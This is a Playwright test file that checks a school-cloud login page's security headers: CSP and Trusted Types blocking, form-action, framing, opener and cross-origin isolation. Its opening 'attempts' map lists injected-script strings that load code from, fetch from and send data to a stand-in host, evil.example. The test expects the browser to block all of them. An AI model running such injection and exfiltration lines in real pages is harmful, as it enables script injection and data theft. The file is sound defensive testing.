import type { Page } from '@playwright/test';
import { people } from '@superhero/school-cloud/people';
import { expect, expectLoggedIn, heading, logIn, test } from './fixtures.ts';
import { watchRequests } from './harness/network.ts';

/** What an injected script might try, and the directive that must block it. */
const attempts = {
  "document.body.innerHTML = '<b>x</b>'": 'require-trusted-types-for',
  "document.write('<b>x</b>')": 'require-trusted-types-for',
  "document.createElement('script').src = 'https://evil.example/x.js'": 'require-trusted-types-for',
  "document.createElement('script').textContent = 'alert(1)'": 'require-trusted-types-for',
  "document.body.setAttribute('onclick', 'alert(1)')": 'require-trusted-types-for',
  "new Worker('/worker.js')": 'require-trusted-types-for',
  "eval('1')": 'require-trusted-types-for',
  "new Function('return 1')": 'require-trusted-types-for',
  "trustedTypes.createPolicy('evil', { createHTML: (html) => html })": 'trusted-types',
  "trustedTypes.createPolicy('default', { createHTML: (html) => html })": 'trusted-types',
  "trustedTypes.createPolicy('dompurify', { createHTML: (html) => html })": 'trusted-types',
  // The page has created it at the start, and a name can be used once.
  "trustedTypes.createPolicy('list-worker', { createHTML: (html) => html })": 'trusted-types',
  "import('https://evil.example/x.js')": 'script-src-elem',
  "fetch('https://evil.example/take?it')": 'connect-src',
  "Object.assign(new Image(), { src: 'https://evil.example/take.png' }).decode()": 'img-src',
  "new FontFace('evil', 'url(https://evil.example/take.woff2)').load()": 'font-src',
};

/**
 * Runs this expression as a script on the page would: `done`, or the name of the error. It runs in a timer, because
 * the browser allows the test itself what it forbids the page.
 */
function tryInPage(page: Page, expression: string): Promise<unknown> {
  return page.evaluate(`new Promise((resolve) => {
    setTimeout(() => {
      Promise.resolve().then(() => ${expression}).then(() => resolve('done'), ({ name }) => resolve(name));
    });
  })`);
}

test('the policy stops scripts that run text, write HTML or send data', async ({ page, problems }) => {
  problems.expect(/Content Security Policy/, /Trusted/);
  await logIn(page, people.superhero, '/login');
  for (const [attempt, rule] of Object.entries(attempts)) {
    problems.expect(new RegExp(`policy violation: ${rule} `));
    expect(await tryInPage(page, attempt), attempt).toMatch(/Error$/);
  }
  await expectLoggedIn(page, people.superhero);
});

test('the policy stops native form submissions, even to the site itself', async ({ page, problems }) => {
  problems.expect(/form-action 'none'/, /policy violation: form-action/);
  await page.goto('/login');
  await expect(heading(page)).toHaveText('Anmelden');
  const requests = watchRequests(page);
  // Bypasses the handler of the form.
  await page.evaluate(() => document.querySelector('form')?.submit());
  await expect.poll(() => problems.result().missing).toEqual([]);
  expect(await page.evaluate(() => window.location.search)).toBe('');
  expect(requests).toEqual([]);
});

test('another site that frames the page gets an empty frame', async ({ page, site, problems, sibling }) => {
  problems.expect(/frame-ancestors 'none'/);
  const requests = watchRequests(page, new RegExp(`^${site.url}/`));
  await page.goto(sibling.url);
  const login = `${site.url}/login`;
  await page.evaluate((src) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src }));
  }, login);
  await expect.poll(() => problems.result().missing).toEqual([]);
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  expect(requests).toEqual([login]);
});

test('another site that opens the page gets no reference to it', async ({ page, site, sibling }) => {
  await page.goto(sibling.url);
  const opened = page.waitForEvent('popup');
  await page.evaluate((address) => {
    window.open(address, 'mine');
  }, `${site.url}/login`);
  const popup = await opened;
  await expect(heading(popup)).toHaveText('Anmelden');
  expect(await popup.evaluate(() => window.opener === null && window.name === '')).toBe(true);
});

test('the page is cross-origin isolated', async ({ page }) => {
  await page.goto('/login');
  expect(await page.evaluate(() => window.crossOriginIsolated)).toBe(true);
});

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });

  test('renders no form whose password could end up in a URL', async ({ page }) => {
    const methods = new Set<string>();
    page.on('request', (request) => methods.add(request.method()));
    await page.goto('/login');
    await expect(page.locator('noscript').locator('[lang="en"]')).toHaveText('Please switch JavaScript on.');
    await expect(page.locator('form, input, button')).toHaveCount(0);
    await page.keyboard.press('Enter');
    expect([...methods]).toEqual(['GET']);
  });
});
